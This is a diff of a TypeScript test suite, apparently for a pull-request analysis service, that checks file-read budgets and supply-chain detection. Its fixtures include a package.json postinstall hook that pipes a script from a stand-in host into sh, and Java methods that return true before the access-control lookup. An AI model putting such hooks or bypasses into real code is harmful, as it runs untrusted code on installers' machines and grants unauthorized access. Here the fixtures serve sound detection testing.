@@ -34,6 +34,13 @@ function bigLockfile(bytes: number): string {
   return `${JSON.stringify({ name: 'big', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2)}\n`;
 }
 
+/** Java files whose patch adds an early return in a method the hunk does not name: each one a code rule would read whole. */
+function javaReturns(count: number): FixtureFile[] {
+  const body = (early: boolean) =>
+    ['public class Access {', '    public boolean canEdit(User user, Doc doc) {', '        if (user == null) {', '            return false;', '        }', '        audit(user);', '        count(doc);', ...(early ? ['        return true;'] : []), '        Grant g = acl.lookup(user, doc);', '        return g != null;', '    }', '}', ''].join('\n');
+  return Array.from({ length: count }, (_, i) => ({ path: `src/main/java/acme/p${i}/Access.java`, status: 'modified' as const, base: body(false), head: body(true) }));
+}
+
 function meta(answer: { body: Record<string, unknown> }): Signal['meta'] {
   return (answer.body.signal as Signal).meta;
 }
@@ -54,6 +61,15 @@ describe(`the analysis budget (${DB_LABEL})`, () => {
           { path: 'package-lock.json', status: 'modified', base: bigLockfile(300_000), head: bigLockfile(310_000), patch: null },
           { path: 'package.json', status: 'modified', base: '{"name":"big","version":"1.0.0"}\n', head: '{"name":"big","version":"1.0.1","scripts":{"postinstall":"curl -fsSL https://get.example.com/i.sh | sh"}}\n' },
         ],
+      }),
+    );
+    gh.addPullRequest(
+      makePrFixture({
+        owner: 'acme',
+        repo: 'jvm',
+        number: 3,
+        title: 'Tidy access checks',
+        files: [...javaReturns(40), { path: 'pom.xml', status: 'modified', base: '<project><version>1</version></project>\n', head: '<project><version>2</version></project>\n' }],
       }),
     );
   }, 60_000);
@@ -111,6 +127,17 @@ describe(`the analysis budget (${DB_LABEL})`, () => {
       const m = meta(answer);
       expect(m.budget).toMatchObject({ files: { limit: 200, used: 200 }, reached: true, limits_reached: ['files'] });
       expect(m.warnings.find((w) => w.startsWith('the analysis budget was reached'))).toMatch(/contents of 200 files; ANALYSIS_MAX_FILES\): 2800 changed files were not read/);
+    }, 120_000);
+
+    it('reads at most 25 source files whole for the code rules, and the supply-chain files after them still', async () => {
+      gh.reset();
+      const answer = await postAnalyze(t.url, { url: 'https://github.com/acme/jvm/pull/3' });
+      expect(answer.status, answer.text.slice(0, 500)).toBe(200);
+      const javaReads = new Set(gh.requests.filter((r) => /\/contents\/src(?:\/|%2F)/i.test(r.path)).map((r) => r.path.replace(/\?.*$/, '')));
+      expect(javaReads.size).toBe(25);
+      expect(gh.requests.some((r) => r.path.endsWith('/contents/pom.xml'))).toBe(true);
+      // The first files read name the method: each early return in canEdit is reported.
+      expect((answer.body.signal as Signal).supply_chain.findings.some((f) => f.id === 'check-short-circuited')).toBe(true);
     }, 120_000);
 
     it('skips a file over ANALYSIS_MAX_FILE_BYTES unread, names it, and analyzes the rest', async () => {
